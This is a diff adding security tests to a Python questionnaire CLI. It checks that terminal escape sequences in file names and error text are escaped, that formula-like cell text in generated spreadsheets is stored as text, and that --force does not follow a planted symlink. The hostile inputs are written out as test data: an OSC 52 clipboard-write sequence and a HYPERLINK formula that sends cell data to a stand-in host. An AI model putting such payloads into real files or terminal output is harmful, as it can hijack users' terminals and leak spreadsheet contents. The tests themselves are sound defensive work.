@@ -64,3 +64,118 @@ def test_csv_header_with_control_characters_is_escaped_in_errors(runner, tmp_pat
     result = runner.invoke(app, ["assess", "--responses", str(csv)])
     assert result.exit_code == 1
     assert "\x1b" not in result.stderr and RLO not in result.stderr and "\\x1b" in result.stderr
+
+
+# --------------------------------------------------------------------------- file names and exception text
+
+ESC = "\x1b]52;c;ZXZpbA==\x07\x1b[2J"  # a clipboard write and a screen clear
+
+
+def test_file_names_are_escaped_in_written_exists_and_cannot_write(runner, tmp_path: Path, answers_file: Path):
+    out = tmp_path / f"report{ESC}.md"
+    written = runner.invoke(app, ["export", "--answers", str(answers_file), "--output", str(out)])
+    assert written.exit_code == 0, written.output
+    exists = runner.invoke(app, ["export", "--answers", str(answers_file), "--output", str(out)])
+    assert exists.exit_code == 1 and "already exists" in exists.stderr
+    missing_dir = tmp_path / f"no{ESC}dir" / "report.md"
+    cannot = runner.invoke(app, ["export", "--answers", str(answers_file), "--output", str(missing_dir)])
+    assert cannot.exit_code == 1 and "does not exist" in cannot.stderr
+    form = runner.invoke(app, ["questionnaire", "xlsform", str(tmp_path / f"form{ESC}.xlsx")])
+    assert form.exit_code == 0, form.output
+    for result in (written, exists, cannot, form):
+        assert "\x1b" not in result.output and "\x07" not in result.output
+        assert "\\x1b]52;c;ZXZpbA==\\x07" in result.stderr
+
+
+def test_internal_error_text_is_escaped() -> None:
+    """A bug's exception text (which may quote data) is shown escaped, on one line."""
+    import typer
+    from typer.testing import CliRunner
+
+    from migdev_cli.cli import _Group
+
+    buggy = typer.Typer(cls=_Group)
+
+    @buggy.command()
+    def crash() -> None:
+        raise RuntimeError(f"bad value {ESC}\nsecond line")
+
+    @buggy.command()
+    def other() -> None:
+        pass
+
+    result = CliRunner().invoke(buggy, ["crash"])
+    assert result.exit_code == 1
+    assert "\x1b" not in result.stderr and "\x07" not in result.stderr
+    (line,) = result.stderr.splitlines()
+    assert line.startswith("internal error: RuntimeError: bad value \\x1b]52;c;ZXZpbA==\\x07")
+
+
+# --------------------------------------------------------------------------- formulas in the XLSForm
+
+
+def test_text_that_looks_like_a_formula_is_written_as_text(tmp_path: Path):
+    from openpyxl import load_workbook
+    from pyxform.xls2xform import convert
+
+    from migdev_cli.loader import validate
+    from migdev_cli.models import Questionnaire
+    from migdev_cli.xlsform import questionnaire_to_xlsform
+
+    hostile = {
+        "text": '=HYPERLINK("http://example.invalid/?"&A1,"Click")',
+        "help": "+1 for the cost of sending money",
+        "choices": [{"value": "a", "label": "-2 percentage points"}, {"value": "b", "label": "@SUM(A1:A9)"}],
+    }
+    questionnaire = validate(
+        Questionnaire,
+        {
+            "id": "formulas",
+            "title": "=1+1",
+            "version": "1",
+            "sections": [{"id": "s", "title": "S", "questions": [{"id": "q", "type": "single", **hostile}]}],
+        },
+        "",
+        "formulas.yaml",
+    )
+    out = tmp_path / "form.xlsx"
+    questionnaire_to_xlsform(questionnaire, out)
+    workbook = load_workbook(out)
+    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value is not None]
+    risky = [cell for cell in cells if str(cell.value).startswith(("=", "+", "-", "@"))]
+    assert {str(c.value) for c in risky} >= {hostile["text"], hostile["help"], "-2 percentage points", "@SUM(A1:A9)"}
+    assert all(cell.data_type == "s" and cell.quotePrefix for cell in risky)
+    xform = convert(xlsform=str(out), warnings=[]).xform
+    assert "HYPERLINK" in xform and "@SUM(A1:A9)" in xform  # pyxform reads the labels as text
+
+
+# --------------------------------------------------------------------------- planted links
+
+
+def test_force_onto_a_planted_symlink_does_not_copy_the_targets_mode(runner, tmp_path: Path, answers_file: Path):
+    target = tmp_path / "victim"
+    target.write_text("someone else's file\n", encoding="utf-8")
+    target.chmod(0o4777)  # set-user-ID and writable by all
+    link = tmp_path / "report.md"
+    link.symlink_to(target)
+    result = runner.invoke(app, ["export", "--answers", str(answers_file), "--output", str(link), "--force"])
+    assert result.exit_code == 0, result.output
+    assert not link.is_symlink() and link.read_text(encoding="utf-8").startswith("#")
+    assert link.stat().st_mode & 0o7000 == 0 and not link.stat().st_mode & 0o002
+    assert target.read_text(encoding="utf-8") == "someone else's file\n" and target.stat().st_mode & 0o7777 == 0o4777
+
+
+def test_file_names_are_escaped_in_warnings_and_validate(runner, tmp_path: Path):
+    answers = tmp_path / f"a{ESC}.yaml"
+    answers.write_text(
+        "questionnaire: core\nanswers:\n  stage: [long_term]\n  returnee_situation: forced_or_unprepared\n"
+    )
+    warned = runner.invoke(app, ["assess", "--answers", str(answers), "--json"])
+    assert warned.exit_code == 0, warned.output
+    assert "ignored" in warned.stderr
+    data = make_data_dir(tmp_path / f"d{ESC}", ["diaspora-bond"])
+    validated = runner.invoke(app, ["validate", str(data), "--alone"])
+    assert validated.exit_code == 0, validated.output
+    for result in (warned, validated):
+        assert "\x1b" not in result.output and "\x07" not in result.output
+        assert "\\x1b]52;c;ZXZpbA==\\x07" in result.output
